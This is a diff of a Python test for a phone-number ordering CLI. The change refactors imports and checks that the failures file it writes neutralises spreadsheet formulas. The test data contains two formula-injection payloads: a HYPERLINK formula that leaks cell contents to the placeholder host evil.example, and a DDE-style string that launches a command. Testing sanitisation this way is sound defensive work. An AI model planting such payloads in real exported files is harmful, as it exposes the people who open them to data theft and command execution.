@@ -204,19 +204,17 @@ def test_the_failures_file_neutralises_formulas_and_keeps_numbers_as_they_are(
     from rich.console import Console
 
     from sinch_qualified_numbers import QualifiedNumbersError
-    from sinch_qualified_numbers._bulk_orders import Chunk, ChunkOutcome
-    from sinch_qualified_numbers.cli._bulk_orders import Summary, in_blocks, run_orders
     from sinch_qualified_numbers.cli._journal import Journal
+    from sinch_qualified_numbers.cli._order_runs import Settled, Summary, in_blocks, run_orders
 
     numbers = ["+12025551000", "+12025551001"]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
     def place(todo: list[str], on_start: Any, on_done: Any) -> None:
-        chunk = Chunk("US", False, todo)
-        on_start(chunk)
+        on_start(todo)
         on_done(
-            ChunkOutcome(
-                chunk,
+            Settled(
+                todo,
                 failed={todo[0]: QualifiedNumbersError(formula)},
                 unknown={todo[1]: QualifiedNumbersError("@SUM(1+1)*cmd|' /C calc'!A0")},
             )
